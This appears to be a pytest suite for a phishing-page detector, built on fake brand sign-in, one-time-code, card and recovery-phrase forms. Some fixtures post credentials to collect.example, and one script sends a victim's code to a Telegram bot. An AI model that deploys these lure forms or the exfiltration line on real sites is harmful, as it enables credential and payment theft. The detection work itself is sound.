"""Brand lures: sign-in, one-time-code and card forms presenting a brand on a foreign host."""

from __future__ import annotations

import pytest

from pipelines.scoring import Assessment, assess_page
from pipelines.watchlists import Watchlists, load_watchlists

LOGIN = (
    '<form action="{action}" method="post"><input type="email" name="login_email">'
    '<input type="password" name="login_password"><button>Log In</button></form>'
)
CARD = (
    '<form action="/pay" method="post"><input name="cardnumber" autocomplete="cc-number">'
    '<input name="exp" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc">'
    "<button>Pay</button></form>"
)
BOXES = "".join(f'<input type="text" maxlength="1" name="d{i}">' for i in range(6))


def _page(body: str, title: str, head: str = "") -> str:
    return f"<html><head><title>{title}</title>{head}</head><body>{body}</body></html>"


@pytest.fixture(scope="module")
def wl() -> Watchlists:
    return load_watchlists()


def _judge(wl: Watchlists, url: str, html: str) -> Assessment:
    return assess_page(html, url, wl)


def _brand_reason(got: Assessment) -> str:
    return next((r for r in got.reasons if "form on a foreign host" in r), "")


LURES = [
    pytest.param(
        "https://resolution-center-7f3a.web.app/signin",
        _page(
            LOGIN.format(action="login.php"),
            "Login - Paypal",
            '<link rel="icon" href="https://www.paypalobjects.com/webstatic/icon/pp196.png">',
        ),
        "PayPal sign-in form on a foreign host resolution-center-7f3a.web.app",
        id="paypal-sign-in-on-a-free-host",
    ),
    pytest.param(
        "https://steamcommunity-tradeoffer.ru/confirm",
        _page(
            f"<h2>Enter the Steam Guard code</h2><form action='/c'>{BOXES}</form>",
            "Steam Guard",
            '<link rel="icon" href="https://community.steamstatic.com/favicon.ico">',
        ),
        "Steam one-time-code form on a foreign host",
        id="steam-guard-six-boxes",
    ),
    pytest.param(
        "https://premium-gift-claim.pages.dev/",
        _page(
            "<h2>Enter the code we sent to your Telegram app</h2>"
            '<div><input id="code" type="text" placeholder="Code"><button>Next</button></div>',
            "Telegram Premium",
        ),
        "Telegram one-time-code form on a foreign host",
        id="telegram-code-by-wording-without-a-form",
    ),
    pytest.param(
        "https://membership-update.example/billing",
        _page(
            "<h1>Update your payment method</h1>" + CARD,
            "Netflix - Payment Information",
            '<meta property="og:site_name" content="Netflix">',
        ),
        "Netflix card form on a foreign host",
        id="netflix-card-page",
    ),
    pytest.param(
        "https://hesap-dogrulama.example/ig",
        _page(
            LOGIN.format(action="kaydet.php"),
            "Giriş yap • Instagram",
            '<link rel="icon" href="https://static.cdninstagram.com/rsrc.php/favicon.ico">',
        ),
        "Instagram sign-in form on a foreign host",
        id="instagram-in-turkish",
    ),
]


@pytest.mark.parametrize(("url", "html", "reason"), LURES)
def test_a_brand_form_on_a_foreign_host_is_a_lure_naming_the_brand(
    wl: Watchlists, url: str, html: str, reason: str
) -> None:
    got = _judge(wl, url, html)
    assert got.sso_lure
    assert got.verdict == "lure"
    assert reason in _brand_reason(got), got.reasons


BENIGN = [
    pytest.param(
        "https://www.paypal.com/signin",
        _page(
            LOGIN.format(action="/signin"),
            "Login - Paypal",
            '<link rel="icon" href="https://www.paypalobjects.com/webstatic/icon/pp196.png">',
        ),
        id="paypals-own-sign-in-page",
    ),
    pytest.param(
        "https://store.steampowered.com/login/",
        _page(
            f"<h2>Enter the Steam Guard code</h2><form action='/c'>{BOXES}</form>",
            "Steam Guard",
        ),
        id="steams-own-code-page",
    ),
    pytest.param(
        "https://filmforum.example/login",
        _page(
            LOGIN.format(action="/ucp.php")
            + '<a href="https://accounts.google.com/o/oauth2/v2/auth?scope=openid">'
            '<img src="https://www.gstatic.com/images/branding/googleg/1x/googleg.png" alt="">'
            "Sign in with Google</a>",
            "Film forum - log in",
        ),
        id="forum-login-with-a-real-google-button",
    ),
    pytest.param(
        "https://kitchenware-shop.example/checkout",
        _page(
            CARD + '<img src="/img/visa.svg" alt="Visa"><img src="/img/mc.svg" alt="Mastercard">'
            '<img src="https://www.paypalobjects.com/webstatic/mktg/logo/pp_cc_mark_37x23.jpg"'
            ' alt="PayPal"><p>We accept Visa, Mastercard and PayPal.</p>',
            "Checkout - Kitchenware Shop",
        ),
        id="shop-checkout-showing-card-networks-and-paypal",
    ),
    pytest.param(
        "https://linedance-club.example/members",
        _page("<h1>Line dance club</h1>" + LOGIN.format(action="/session"), "Line"),
        id="ordinary-word-name-alone",
    ),
    pytest.param(
        "https://securitynews.example/paypal-phishing",
        _page(
            "<h1>PayPal phishing wave</h1><p>The fake PayPal login page asks for your password"
            " and then the code we sent by SMS.</p>",
            "PayPal phishing wave",
        ),
        id="scam-warning-without-a-form",
    ),
]


@pytest.mark.parametrize(("url", "html"), BENIGN)
def test_brand_own_pages_and_look_alikes_are_no_brand_lures(
    wl: Watchlists, url: str, html: str
) -> None:
    got = _judge(wl, url, html)
    assert _brand_reason(got) == "", got.reasons


def test_a_lure_on_a_user_blog_of_a_brand_platform_still_counts(wl: Watchlists) -> None:
    html = _page(LOGIN.format(action="https://collect.example/p.php"), "Sign in to GitHub")
    got = _judge(wl, "https://free-followers.github.io/login", html)
    assert "GitHub sign-in form on a foreign host" in _brand_reason(got)


def test_a_card_form_named_only_by_its_labels_is_a_card_lure(wl: Watchlists) -> None:
    form = (
        "<form action='finish.php' method='post'><label>Card Number <input name='crd'></label>"
        "<label>Security Code <input name='csc' maxlength='4'></label>"
        "<button>Update Payment Method</button></form>"
    )
    html = _page(form, "Netflix - Payment Information")
    got = _judge(wl, "https://account-billing.example/payment", html)
    assert "Netflix card form on a foreign host" in _brand_reason(got)


def test_a_code_form_sent_to_a_telegram_bot_is_a_lure_without_a_brand(wl: Watchlists) -> None:
    body = (
        "<h1>Enter verification code</h1><form id='f'><input type='number' id='verificationCode'"
        " min='10000' max='99999'><button>Next</button></form><script>fetch("
        "'https://api.telegram.org/bot123:abc/sendMessage?text=' + code)</script>"
    )
    got = _judge(wl, "https://gift-claim.example/verify", _page(body, "OTP Code"))
    assert got.sso_lure
    assert any("api.telegram.org/bot" in r for r in got.reasons)


def test_a_code_form_posting_to_its_own_site_is_no_lure(wl: Watchlists) -> None:
    body = (
        "<h1>Verify Two-Factor Authentication</h1><form method='post' action=''>"
        "<input type='number' name='totp' placeholder='Enter code'><input type='submit'></form>"
    )
    got = _judge(wl, "https://shop.example/2fa", _page(body, "2FA Check"))
    assert not got.sso_lure


CODE_FORM = (
    "<form action='check.php' method='post'><input type='text' name='otp' maxlength='6'"
    " inputmode='numeric'><button>Confirm</button></form>"
)


@pytest.mark.parametrize(
    ("label", "shop", "brand"),
    [
        ("Merchant:", "Spotify AB", "Spotify"),
        ("Comercio:", "Amazon EU", "Amazon"),
        ("Marchand :", "Netflix International", "Netflix"),
        ("Händler:", "PlayStation Store", "PlayStation"),
    ],
)
def test_a_code_page_naming_only_its_merchant_presents_that_brand(
    wl: Watchlists, label: str, shop: str, brand: str
) -> None:
    body = f"<h2>Confirm this payment</h2><p>{label} {shop}</p><p>Amount: 9.99</p>{CODE_FORM}"
    got = _judge(wl, "https://pay-check-41.web.app/acs", _page(body, "Payment check"))
    assert f"{brand} one-time-code form on a foreign host" in _brand_reason(got), got.reasons
    assert "merchant" in _brand_reason(got)


def test_a_brand_named_far_from_the_merchant_label_is_no_merchant_cue(wl: Watchlists) -> None:
    body = (
        "<p>Merchant: a small local bakery that sells bread and cakes. Questions about"
        f" Spotify playlists go elsewhere.</p>{CODE_FORM}"
    )
    got = _judge(wl, "https://pay-check-41.web.app/acs", _page(body, "Payment check"))
    assert _brand_reason(got) == "", got.reasons


def test_a_merchant_line_without_a_code_form_or_on_the_brand_site_is_no_lure(
    wl: Watchlists,
) -> None:
    quoted = "<p>Such screens read 'Merchant: Netflix, Amount: 15.49'.</p>"
    article = _page(quoted + "<form><textarea name='c'></textarea></form>", "Card checks")
    assert not _judge(wl, "https://notes.example/card-checks", article).sso_lure
    own = _page(f"<p>Merchant: Spotify AB</p>{CODE_FORM}", "Confirm your payment")
    assert _brand_reason(_judge(wl, "https://www.spotify.com/confirm", own)) == ""


def test_a_title_that_is_only_a_short_brand_name_presents_it(wl: Watchlists) -> None:
    page = _page(CODE_FORM, "BCR")
    reason = _brand_reason(_judge(wl, "https://activar-cuenta.vercel.app/sms", page))
    assert "Banco de Costa Rica one-time-code form on a foreign host" in reason
    longer = _page(CODE_FORM, "BCR weekly news roundup")
    assert _brand_reason(_judge(wl, "https://activar-cuenta.vercel.app/sms", longer)) == ""


def test_an_ordinary_word_title_still_needs_a_second_cue(wl: Watchlists) -> None:
    page = _page(CODE_FORM, "Signal")
    assert _brand_reason(_judge(wl, "https://hello-world.example/verify", page)) == ""


@pytest.mark.parametrize(
    "wording",
    ["Ingresa el código que le enviamos", "Debes ingresar el código recibido por sms"],
)
def test_spanish_sent_code_wording_makes_a_code_named_input_a_code_form(
    wl: Watchlists, wording: str
) -> None:
    form = f"<p>{wording}</p><form action='p.php'><input type='tel' name='codigo'></form>"
    got = _judge(wl, "https://validar-equipo.pages.dev/", _page(form, "BCR"))
    assert "Banco de Costa Rica one-time-code form" in _brand_reason(got), got.reasons


@pytest.mark.parametrize(
    "field",
    [
        "<input type='text' name='vbvsecure' placeholder='3D Secure'>",
        "<input type='text' name='pw' placeholder='Your SecureCode'>",
        "<input type='tel' name='acs' aria-label='3D-Secure'>",
    ],
)
def test_a_form_asking_for_the_3d_secure_password_is_a_code_form(
    wl: Watchlists, field: str
) -> None:
    page = _page(f"<form method='post'>{field}<div class='btn'>Complete</div></form>", "PayPal")
    reason = _brand_reason(_judge(wl, "https://finish-step-4.web.app/", page))
    assert "PayPal one-time-code form on a foreign host" in reason


def test_a_nintendo_3ds_search_box_is_no_code_form(wl: Watchlists) -> None:
    form = "<form action='/s'><input name='q3ds' placeholder='Search 3DS guides' maxlength='6'>"
    page = _page(form + "</form>", "Nintendo 3DS homebrew guide")
    assert _brand_reason(_judge(wl, "https://handheld.example/3ds", page)) == ""


@pytest.mark.parametrize(
    "wording",
    [
        "Vous recevrez un code d'authentification par SMS",
        "Saisissez le code de confirmation",
        "Entrez le code reçu par SMS",
    ],
)
def test_french_code_wording_makes_a_code_named_input_a_code_form(
    wl: Watchlists, wording: str
) -> None:
    form = f"<form action='t.php' method='post'><label>{wording}</label><input name='sms'></form>"
    got = _judge(wl, "https://espace-client-fr.vercel.app/", _page(form, "HSBC"))
    assert "HSBC one-time-code form on a foreign host" in _brand_reason(got), got.reasons


def test_a_canadian_bank_sign_in_copy_names_the_bank_and_its_own_site_stays_benign(
    wl: Watchlists,
) -> None:
    head = '<link rel="icon" href="https://www1.royalbank.com/favicon.ico">'
    page = _page(LOGIN.format(action="next.php"), "Sign In to Online Banking", head)
    reason = _brand_reason(_judge(wl, "https://secure-olb-ca.pages.dev/signin", page))
    assert "RBC Royal Bank sign-in form on a foreign host" in reason
    assert _brand_reason(_judge(wl, "https://www1.royalbank.com/signin", page)) == ""


REGIONAL = [
    pytest.param(
        "Coast Capital Savings - Online Banking",
        '<link rel="stylesheet" href="https://banking.coastcapitalsavings.com/Content/site.css">',
        "Coast Capital Savings",
        "banking.coastcapitalsavings.com",
        id="canadian-credit-union-hot-linking-its-css",
    ),
    pytest.param(
        "Banco de Occidente - Autenticación de compra",
        "",
        "Banco de Occidente",
        "www.bancodeoccidente.com.co",
        id="colombian-bank-in-the-title",
    ),
    pytest.param(
        "NatWest Online Banking",
        '<link rel="icon" href="https://www.natwest.com/favicon.ico">',
        "NatWest",
        "www.natwest.com",
        id="uk-bank-title-and-favicon",
    ),
]


@pytest.mark.parametrize(("title", "head", "brand", "own_host"), REGIONAL)
def test_regional_banks_kits_copy_are_listed_and_their_own_sites_stay_benign(
    wl: Watchlists, title: str, head: str, brand: str, own_host: str
) -> None:
    form = "<form action='terminus.php' method='post'><label>Entrez le code</label>"
    page = _page(form + "<input name='sms' type='text'><button>OK</button></form>", title, head)
    got = _judge(wl, "https://verify-step-2.pages.dev/sms", page)
    assert f"{brand} one-time-code form on a foreign host" in _brand_reason(got), got.reasons
    assert _brand_reason(_judge(wl, f"https://{own_host}/sms", page)) == ""


@pytest.mark.parametrize(
    "title", ["Tangerine Dream fan club - Sign in", "Halifax Public Libraries - Log in"]
)
def test_a_regional_bank_name_that_is_an_ordinary_word_needs_a_second_cue(
    wl: Watchlists, title: str
) -> None:
    page = _page(LOGIN.format(action="/session"), title)
    assert _brand_reason(_judge(wl, "https://members.fanclub.example/login", page)) == ""


@pytest.mark.parametrize(
    ("footer", "brand"),
    [
        ("<p>© 2025 Roblox Corporation. All rights reserved.</p>", "Roblox"),
        ("<span>Copyright © 2024 Meridian Credit Union. All rights reserved.</span>", "Meridian"),
        (
            "<div>© 1996-2024, Mouvement des caisses Desjardins. Tous droits réservés.</div>",
            "Desj",
        ),
    ],
)
def test_the_owner_a_copyright_line_names_presents_the_brand(
    wl: Watchlists, footer: str, brand: str
) -> None:
    page = _page(LOGIN.format(action="post.php") + footer, "Sign in")
    reason = _brand_reason(_judge(wl, "https://account-check-3.pages.dev/", page))
    assert reason.startswith(brand) and "copyright" in reason, reason


@pytest.mark.parametrize(
    "footer",
    [
        "<p>© 2024 Acme Tickets. Netflix is a trademark of Netflix, Inc.</p>",
        "<p>Copyright 2024 Club Site | Roblox fan community</p>",
        "<p>© 2024 Steam Valley Farm</p>",
    ],
)
def test_a_copyright_line_owned_by_someone_else_names_no_brand(
    wl: Watchlists, footer: str
) -> None:
    page = _page(LOGIN.format(action="/session") + footer, "Members - Sign in")
    assert _brand_reason(_judge(wl, "https://members.club.example/login", page)) == ""


def test_a_code_named_in_the_input_itself_makes_a_code_form(wl: Watchlists) -> None:
    form = "<form action='t.php' method='post'><input name='sms' placeholder='CODE SMS'></form>"
    page = _page(form, "Connexion | Banque Tangerine")
    reason = _brand_reason(_judge(wl, "https://acces-client.pages.dev/", page))
    assert "Tangerine one-time-code form on a foreign host" in reason
    search = "<form action='/s'><input name='q' placeholder='Search products'></form>"
    plain = _page(search, "Connexion | Banque Tangerine")
    assert _brand_reason(_judge(wl, "https://acces-client.pages.dev/", plain)) == ""


@pytest.mark.parametrize(
    ("wording", "lure"),
    [
        ("Vous recevrez un code d'authenthification sur votre E-mail ou sms", True),
        ("Introduzca el código de validación", True),
        ("Code de la route : réservez votre examen", False),
    ],
)
def test_code_wording_is_read_by_stem_so_misspellings_still_count(
    wl: Watchlists, wording: str, lure: bool
) -> None:
    form = f"<form action='loop.php' method='post'><label>{wording}</label><input name='sms'>"
    page = _page(form + "</form><p>© 1996-2024, Mouvement des caisses Desjardins.</p>", "Accès")
    reason = _brand_reason(_judge(wl, "https://acces-d.pages.dev/", page))
    assert ("Desjardins one-time-code form on a foreign host" in reason) is lure, reason


def test_a_code_field_typed_email_still_asks_for_the_code_but_an_email_field_does_not(
    wl: Watchlists,
) -> None:
    code = "<input type='email' name='documentNumber' placeholder='Clave dinámica enviada'>"
    mail = "<input type='email' name='email' placeholder='Email for your verification code'>"
    for field, lure in ((code, True), (mail, False)):
        form = f"<form action='getdin.php' method='post'>{field}<button>Continuar</button></form>"
        page = _page(form, "Bancolombia Sucursal Virtual Personas")
        reason = _brand_reason(_judge(wl, "https://sucursal-personas.pages.dev/", page))
        assert ("Bancolombia one-time-code form on a foreign host" in reason) is lure, reason


def test_nordic_code_wording_and_bankid_on_mobile_present_a_code_step(wl: Watchlists) -> None:
    form = "<form action='send/code.php' method='post'><label>Engangskode</label>"
    page = _page(form + "<input name='sms'><button>Bekreft</button></form>", "BankID på mobil")
    reason = _brand_reason(_judge(wl, "https://bekreft-id.pages.dev/", page))
    assert "BankID one-time-code form on a foreign host" in reason


def test_a_service_offering_bankid_sign_in_does_not_present_bankid(wl: Watchlists) -> None:
    page = _page(LOGIN.format(action="/login"), "Logga in med BankID - Kommunen")
    assert _brand_reason(_judge(wl, "https://e-tjanst.kommunen.example/", page)) == ""


def test_a_promo_code_valid_until_a_date_is_no_code_wording(wl: Watchlists) -> None:
    form = "<form action='/redeem' method='post'><input name='code'><button>Redeem</button></form>"
    body = form + "<p>Promo code valid until Sunday. © 2025 Roblox Corporation.</p>"
    page = _page(body, "Gift card shop")
    assert _brand_reason(_judge(wl, "https://giftcards.shop.example/", page)) == ""


PHRASE = (
    "<form action='import.php' method='post'><label>Secret Recovery Phrase</label>"
    "<textarea name='phrase' placeholder='Enter your 12-word phrase'></textarea>"
    "<button>Restore</button></form>"
)


def test_a_form_asking_for_a_wallet_recovery_phrase_is_a_lure_of_the_wallet(
    wl: Watchlists,
) -> None:
    page = _page(PHRASE, "MetaMask - Restore your wallet")
    reason = _brand_reason(_judge(wl, "https://wallet-restore-9.pages.dev/", page))
    assert "MetaMask recovery-phrase form on a foreign host" in reason
    assert _brand_reason(_judge(wl, "https://metamask.io/restore", page)) == ""


def test_an_article_warning_about_recovery_phrases_with_a_comment_form_is_no_lure(
    wl: Watchlists,
) -> None:
    text = "<p>MetaMask support will never ask for your Secret Recovery Phrase.</p>"
    comment = (
        "<form action='/comments' method='post'><label>Leave a comment</label>"
        "<textarea name='comment'></textarea><input name='author'><button>Post</button></form>"
    )
    page = _page(text + comment, "MetaMask scams: how to stay safe")
    assert _brand_reason(_judge(wl, "https://cryptonews.example/metamask-scams", page)) == ""


def test_a_copyright_notice_about_a_brand_is_no_copyright_line_of_it(wl: Watchlists) -> None:
    footer = "<p>Copyright notice: Netflix content shown here belongs to its owners.</p>"
    page = _page(LOGIN.format(action="/session") + footer, "Series fans - Sign in")
    assert _brand_reason(_judge(wl, "https://seriesfans.example/login", page)) == ""


@pytest.mark.parametrize(
    "field",
    [
        '<input type="text" name="passord" placeholder="Passord">',
        '<input name="user_losenord">',
        '<input name="salasana">',
        '<input placeholder="Heslo">',
        '<input placeholder="Jelszó">',
        '<input name="sifre" placeholder="Şifre">',
        '<input placeholder="Пароль">',
        '<input placeholder="密码">',
        '<input name="adgangskode">',
        '<input placeholder="Parolă">',
    ],
)
def test_a_password_field_named_in_another_language_is_a_sign_in_form(
    wl: Watchlists, field: str
) -> None:
    form = f"<form action='login.php' method='post'><input name='user'>{field}<button>OK</button>"
    page = _page(form + "</form>", "Telenor")
    got = _judge(wl, "https://konto-bekreft.pages.dev/", page)
    assert "Telenor sign-in form on a foreign host" in _brand_reason(got)


def test_an_italian_keyword_search_box_is_no_password_field(wl: Watchlists) -> None:
    form = "<form action='/cerca'><input name='q' placeholder='Parola chiave'><button>Cerca"
    page = _page(form + "</button></form>", "Telenor")
    got = _judge(wl, "https://negozio.example/", page)
    assert not any("password form" in r for r in got.reasons)


SMS_STEP = (
    "<form action='confirm.php' method='post'><label>Code SMS</label>"
    "<input name='sms' maxlength='8'><button>Confirmer</button></form>"
)


def test_a_name_written_as_one_word_in_asset_files_and_the_favicon_host_presents_the_brand(
    wl: Watchlists,
) -> None:
    head = (
        '<link rel="icon" href="https://peoplestrust.auth.cuplatform.example/favicon.png">'
        '<link rel="stylesheet" href="./files/theme-peoplestrust.css">'
    )
    page = _page(SMS_STEP, "Login", head)
    reason = _brand_reason(_judge(wl, "https://secure-acces-44.pages.dev/", page))
    assert "People's Trust one-time-code form on a foreign host" in reason
    assert _brand_reason(_judge(wl, "https://www.peoplestrust.com/login", page)) == ""


def test_one_asset_file_named_after_a_brand_does_not_present_it(wl: Watchlists) -> None:
    head = '<link rel="stylesheet" href="/css/compare-peoplestrust.css">'
    page = _page(SMS_STEP, "Rate compare", head)
    assert _brand_reason(_judge(wl, "https://rates.example/login", page)) == ""


def test_an_ordinary_word_bank_as_whole_title_and_asset_folder_presents_the_bank(
    wl: Watchlists,
) -> None:
    head = '<link rel="stylesheet" href="/laurentienne/styles_pc.css">'
    page = _page(SMS_STEP, "Laurentienne", head)
    reason = _brand_reason(_judge(wl, "https://acces-client-3.pages.dev/", page))
    assert "Laurentian Bank one-time-code form on a foreign host" in reason


@pytest.mark.parametrize(
    ("title", "href"),
    [
        ("Booking", "/booking/style.css"),  # a hotel's own booking folder: not a bank's name
        ("Tangerine", "/img/tangerine-slice.png"),  # the word inside a longer file name
        ("Tangerine Spa", "/tangerine/style.css"),  # more than the name in the title
    ],
)
def test_an_ordinary_word_folder_without_a_bank_title_presents_nothing(
    wl: Watchlists, title: str, href: str
) -> None:
    page = _page(SMS_STEP + CARD, title, f'<link rel="stylesheet" href="{href}">')
    assert _brand_reason(_judge(wl, "https://hotel-sol.example/book", page)) == ""


def test_a_misspelt_nordic_code_compound_is_code_wording(wl: Watchlists) -> None:
    form = "<form action='send/code.php' method='post'><label>Egangskode</label>"
    page = _page(form + "<input name='sms'><button>Bekrefte</button></form>", "Bank Norwegian")
    reason = _brand_reason(_judge(wl, "https://bekreft-9.pages.dev/", page))
    assert "Bank Norwegian one-time-code form on a foreign host" in reason


def test_a_nordic_discount_code_is_no_code_step(wl: Watchlists) -> None:
    form = "<form action='/kurv' method='post'><label>Rabattkode</label>"
    page = _page(form + "<input name='code'><button>Bruk</button></form>", "Telenor")
    assert _brand_reason(_judge(wl, "https://mobilbutikk.example/kurv", page)) == ""


def test_a_text_field_labelled_for_a_password_is_a_sign_in_form(wl: Watchlists) -> None:
    form = (
        "<form action='code.php' method='post'><label>Personlige passord :</label>"
        "<input name='code' type='text'><button>Bekrefte</button></form>"
    )
    page = _page(form + "<p>© 1855-2024 Telenor ASA</p>", "")
    reason = _brand_reason(_judge(wl, "https://refusjon-3.pages.dev/", page))
    assert "Telenor sign-in form on a foreign host" in reason


def test_an_email_field_in_a_form_that_mentions_a_password_is_no_sign_in(wl: Watchlists) -> None:
    form = (
        "<form action='/reset' method='post'><label>Forgot your password? Email:</label>"
        "<input name='email' type='text'><button>Send</button></form>"
    )
    page = _page(form + "<p>© 2024 Telenor ASA</p>", "Forum")
    assert _brand_reason(_judge(wl, "https://mobilforum.example/reset", page)) == ""


def test_a_form_naming_the_code_in_its_own_wording_with_one_field_is_a_code_form(
    wl: Watchlists,
) -> None:
    form = (
        "<form action='admin2.php' method='post'><input type='email' name='x9f' maxlength='6'>"
        "<label>Token Digital</label><input type='submit' value='Continuar'></form>"
    )
    page = _page(form, "BBVA Net Colombia")
    reason = _brand_reason(_judge(wl, "https://validar-acceso.pages.dev/", page))
    assert "BBVA one-time-code form on a foreign host" in reason
    assert _brand_reason(_judge(wl, "https://www.bbva.com.co/token", page)) == ""


@pytest.mark.parametrize(
    "form",
    [
        "<form action='/buscar'><input name='q'><button>Buscar</button></form>",
        "<form action='/alta'><label>Novedades del token digital</label>"
        "<input type='email' name='email'><button>Suscribir</button></form>",
    ],
)
def test_a_search_box_or_newsletter_beside_code_news_is_no_code_form(
    wl: Watchlists, form: str
) -> None:
    body = "<p>BBVA Net: el token digital llega a la app.</p>" + form
    page = _page(body, "BBVA Net Colombia estrena token digital - Noticias")
    assert _brand_reason(_judge(wl, "https://noticias-banca.example/bbva", page)) == ""


def test_a_brand_login_posting_to_its_own_site_is_no_lure_but_its_copy_elsewhere_is(
    wl: Watchlists,
) -> None:
    page = _page(LOGIN.format(action="login.php"), "VK", '<link rel="icon" href="/favicon.ico">')
    own = _judge(wl, "https://m.vk.com/login", page)
    assert not own.sso_lure, own.reasons
    copy = _judge(wl, "https://vk-golos-289.pages.dev/login", page)
    assert copy.sso_lure and "VK sign-in form on a foreign host" in _brand_reason(copy)


def test_a_brand_site_page_posting_credentials_to_another_site_still_raises_it(
    wl: Watchlists,
) -> None:
    page = _page(LOGIN.format(action="https://collect.example/p.php"), "VK")
    got = _judge(wl, "https://m.vk.com/login", page)
    assert any("posts to other host collect.example" in r for r in got.reasons), got.reasons


LOOSE_CARD = (
    "<div class='form'><input id='cardnumber' type='text'><label>Card Number</label>"
    "<input id='expdate' maxlength='7'><label>Expiration Date (MM/YY)</label>"
    "<input id='cvv' maxlength='4'><label>Security Code</label>"
    "<button id='submit_btn_card'>CONFIRM PAYMENT METHOD</button></div>"
)


def test_card_fields_drawn_without_a_form_are_a_card_form(wl: Watchlists) -> None:
    page = _page(LOOSE_CARD, "Netflix", '<meta property="og:site_name" content="Netflix">')
    reason = _brand_reason(_judge(wl, "https://account-billing-7.pages.dev/payment", page))
    assert "Netflix card form on a foreign host" in reason


def test_a_shop_checkout_drawn_without_a_form_is_no_brand_lure(wl: Watchlists) -> None:
    body = "<p>Pay with Visa, Mastercard or PayPal.</p>" + LOOSE_CARD
    page = _page(body, "Checkout - Green Tea Shop")
    assert _brand_reason(_judge(wl, "https://greentea.shop.example/checkout", page)) == ""


@pytest.mark.parametrize(
    "url",
    [
        "https://storage.googleapis.com/bucket-7f2/index.html",
        "https://files-update.s3.amazonaws.com/login.html",
        "https://contoso.sharepoint.com/sites/hr/login.aspx",
    ],
)
def test_a_kit_uploaded_to_a_brand_cloud_storage_host_is_no_own_page(
    wl: Watchlists, url: str
) -> None:
    page = _page(LOGIN.format(action=""), "Sign in to your Microsoft account - Outlook")
    got = _judge(wl, url, page)
    assert any(r.startswith("password form on") for r in got.reasons), got.reasons
